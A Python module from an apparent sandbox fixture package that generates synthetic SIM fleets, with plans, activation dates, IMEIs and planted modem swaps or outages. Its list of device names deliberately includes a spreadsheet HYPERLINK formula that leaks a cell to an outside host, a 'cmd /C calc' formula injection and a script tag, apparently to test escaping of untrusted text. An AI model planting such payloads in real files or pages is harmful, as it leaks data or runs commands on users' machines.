"""The SIMs of an organisation: who they are, which plan they are on, and what will happen to them."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from typing import Final

from hologram_assets.sandbox import networks
from hologram_assets.sandbox.draws import digits_for, number_of, share_of
from hologram_assets.sandbox.kinds import Change, Profile, SimKind, Traffic, Volume
from hologram_assets.sandbox.networks import Network
from hologram_assets.sandbox.plans import PLANS, Plan

LINKS_PER_ORG: Final = 100_000
MOST_SIMS: Final = 20_000
INTERVAL: Final = timedelta(days=30)
_SHORTEST_HISTORY: Final = 30
"""Days: a SIM that died three weeks ago still had a life before."""

# Names are free text of other people: formulas, Slack markup, HTML, and letters of all kinds.
_NAMES: Final = (
    "Pump {n}",
    '=HYPERLINK("http://example.com/?leak="&A1,"Meter {n}")',
    "<!channel> Tracker {n}",
    "Zähler Nº{n} – Ünïcode ⚡ 水泵",
    "Gateway {n}",
    "<script>alert({n})</script>",
    "+{n} SUM(1+1)*cmd|' /C calc'!A0",
    '@here Kiosk {n}, "second" row',
    "Cold room {n}",
    "*_~`Lift {n}`~_*",
)
_TAGS: Final = ((501, "pilot"), (502, "field"), (503, "cold chain"))
_MORNING: Final = 8 * 3600
_WORKING_HOURS: Final = 6 * 3600
_EARLIEST_UPDATE: Final = 20
_LATEST_UPDATE: Final = 72
_OVERAGE_LIMITS: Final = (-1, 5_000_000, -1, 0, 50_000_000)


@dataclass(frozen=True, slots=True)
class Tag:
    """A device tag."""

    id: int
    name: str


@dataclass(frozen=True, slots=True)
class Sim:
    """One SIM (a link) and its device, with its life ahead and behind.

    Times are naive UTC. `daily_bytes` is the mean of its traffic in bytes a day. `changed_at` and `stopped_at` are the
    moments of what was planted (None: nothing), `changed_until` when the change is over (None: it stays), `next_imei`
    the modem after it. `overage_limit_bytes` as the API has it: -1 for none. `home` is the usual network and the second
    one, `tour` the countries through which a SIM of the newer profiles travels instead, `update_on` the day (UTC) on
    which it loads a firmware update (None: never).
    """

    org_id: int
    index: int
    linkid: int
    device_id: int
    simcardid: int
    device_name: str
    tags: tuple[Tag, ...]
    iccid: str
    kind: SimKind
    plan: Plan
    activated_at: datetime
    stopped_at: datetime | None
    changed_at: datetime | None
    home: tuple[Network, Network]
    imei: str
    imeisv: str
    next_imei: str
    next_imeisv: str
    daily_bytes: float
    daily_sessions: int
    overage_limit_bytes: int
    changed_until: datetime | None = None
    tour: tuple[tuple[Network, Network], ...] = ()
    update_on: date | None = None

    def is_changed(self, moment: datetime) -> bool:
        """Whether the planted change, if any, is in force at a moment."""
        return (
            self.changed_at is not None
            and moment >= self.changed_at
            and (self.changed_until is None or moment < self.changed_until)
        )

    @property
    def period_length(self) -> timedelta:
        """The length of a billing period: 30 days times the plan's `billingperiod`."""
        return INTERVAL * self.plan.billingperiod

    def state(self, now: datetime) -> str:
        """`LIVE`, `PAUSED-…` or `DEAD` at a moment."""
        stopped = self.stopped_at is not None and now >= self.stopped_at
        return self.kind.state_after_stop if stopped else "LIVE"

    def is_live(self, now: datetime) -> bool:
        """Whether the SIM may connect at a moment."""
        return self.state(now) == "LIVE"


def build_sims(seed: int, org_id: int, count: int, *, days: int, made_on: date, profile: Profile) -> tuple[Sim, ...]:
    """The SIMs of one organisation, by ascending link id.

    Args:
        seed: the fleet's seed.
        org_id: the organisation.
        count: how many SIMs.
        days: every SIM has at least this many days of history.
        made_on: the day (UTC) on which planted events are anchored.
        profile: the mix of kinds.
    """
    return tuple(_build(seed, org_id, index, days=days, made_on=made_on, profile=profile) for index in range(count))


def _build(seed: int, org_id: int, index: int, *, days: int, made_on: date, profile: Profile) -> Sim:
    kind = profile.mix[index % len(profile.mix)]
    repeat = index // len(profile.mix)
    plan = PLANS[kind.plan_id]
    key = (seed, org_id, index)
    midnight = datetime.combine(made_on, time.min)
    linkid = org_id * LINKS_PER_ORG + index + 1
    modem = _modem(seed, org_id, index)
    first_serial = number_of(seed, org_id, "imei") + 2 * index
    imei, imeisv = _identity(modem, first_serial)
    if kind.change is Change.BORROWED_IMEI:
        next_imei, next_imeisv = _identity(_modem(seed, org_id, index + 1), first_serial + 2)
    else:
        other = networks.MODEMS[(networks.MODEMS.index(modem) + _is_other_model(kind, repeat)) % len(networks.MODEMS)]
        next_imei, next_imeisv = _identity(other, first_serial + 1)
    changed_at = _change(seed, org_id, index, kind=kind, repeat=repeat, midnight=midnight)
    return Sim(
        org_id=org_id,
        index=index,
        linkid=linkid,
        device_id=linkid + 50_000,
        simcardid=linkid + 70_000,
        device_name=_NAMES[index % len(_NAMES)].format(n=index + 1),
        tags=tuple(Tag(id, name) for id, name in _TAGS if share_of(*key, "tag", id) < 0.4),
        iccid=f"8944501{digits_for(6, seed, org_id, 'iccid')}{index:06d}",
        kind=kind,
        plan=plan,
        activated_at=_activation(seed, org_id, index, kind=kind, plan=plan, days=days, midnight=midnight),
        stopped_at=_days_before(midnight, kind.stop_days, repeat, share_of(*key, "stop")) if kind.stop_days else None,
        changed_at=changed_at,
        home=kind.home or networks.HOMES[number_of(*key, "home") % len(networks.HOMES)],
        imei=imei,
        imeisv=imeisv,
        next_imei=next_imei,
        next_imeisv=next_imeisv,
        daily_bytes=kind.bytes_per_day * kind.factors[repeat % len(kind.factors)],
        daily_sessions=_sessions_a_day(seed, org_id, index, kind),
        overage_limit_bytes=_OVERAGE_LIMITS[index % len(_OVERAGE_LIMITS)],
        changed_until=changed_at + timedelta(days=kind.change_lasts) if changed_at and kind.change_lasts else None,
        tour=_tour(seed, org_id, index, kind),
        update_on=_update_day(days, made_on) if kind.volume is Volume.FIRMWARE else None,
    )


def _modem(seed: int, org_id: int, index: int) -> networks.Modem:
    return networks.MODEMS[number_of(seed, org_id, index, "modem") % len(networks.MODEMS)]


def _is_other_model(kind: SimKind, repeat: int) -> int:
    """1 when the modem after a swap is of another model, 0 when of the same."""
    if kind.change in {Change.NEW_MODEL, Change.NEW_PIECE}:
        return int(kind.change is Change.NEW_MODEL)
    # The first swap is to another model, the second to another piece of the same model, and so on.
    return (repeat + 1) % 2


def _sessions_a_day(seed: int, org_id: int, index: int, kind: SimKind) -> int:
    if kind.traffic is not Traffic.EVEN:
        return 8 + number_of(seed, org_id, index, "sessions") % 10
    fewest, most = kind.sessions_a_day
    mean: float = fewest * (most / fewest) ** share_of(seed, org_id, index, "sessions")
    return round(mean)


def _tour(seed: int, org_id: int, index: int, kind: SimKind) -> tuple[tuple[Network, Network], ...]:
    if kind.traffic is not Traffic.EVEN or not kind.travels:
        return ()
    return networks.TOURS[number_of(seed, org_id, index, "tour") % len(networks.TOURS)]


def _update_day(days: int, made_on: date) -> date:
    """After a fifth of the history: late enough to be in some period's middle, early enough for whole periods after."""
    return made_on - timedelta(days=min(max(round(0.8 * days), _EARLIEST_UPDATE), _LATEST_UPDATE))


def _change(seed: int, org_id: int, index: int, *, kind: SimKind, repeat: int, midnight: datetime) -> datetime | None:
    """When what is planted begins."""
    if kind.change is None:
        return None
    chance = share_of(seed, org_id, index, "change")
    if kind.traffic is not Traffic.EVEN:
        return _days_before(midnight, kind.change_days, repeat, chance)
    if kind.change is Change.OUTAGE:
        # One cause, one moment.
        chance = share_of(seed, org_id, "outage")
    return midnight + timedelta(
        days=-kind.change_days[repeat % len(kind.change_days)], seconds=_MORNING + round(_WORKING_HOURS * chance)
    )


def _activation(
    seed: int, org_id: int, index: int, *, kind: SimKind, plan: Plan, days: int, midnight: datetime
) -> datetime:
    """When the SIM was activated: whole periods before the running one, until the history is long enough."""
    period = INTERVAL.days * plan.billingperiod
    chance = share_of(seed, org_id, index, "elapsed")
    elapsed = chance * period if kind.elapsed_days is None else kind.elapsed_days - 0.4 + 0.8 * chance
    missing = max(days, _SHORTEST_HISTORY) - elapsed
    whole_periods = max(0, -int(-missing // period))
    return midnight - timedelta(days=whole_periods * period, seconds=round(elapsed * 86_400))


def _days_before(midnight: datetime, choices: tuple[int, ...], repeat: int, chance: float) -> datetime:
    """Some hour of the working day, so many days before; two SIMs rarely change in the same hour."""
    return midnight - timedelta(days=choices[repeat % len(choices)]) + timedelta(seconds=round(6 * 3600 * chance))


def _identity(modem: networks.Modem, serial: int) -> tuple[str, str]:
    """An IMEI with its check digit, and the IMEISV of the same modem; serial numbers count up, so no two are alike."""
    body = f"{modem.tac}{serial % 1_000_000:06d}"
    doubled = [int(digit) * (1 + place % 2) for place, digit in enumerate(body)]
    check = -sum(value // 10 + value % 10 for value in doubled) % 10
    return f"{body}{check}", body + modem.software_version
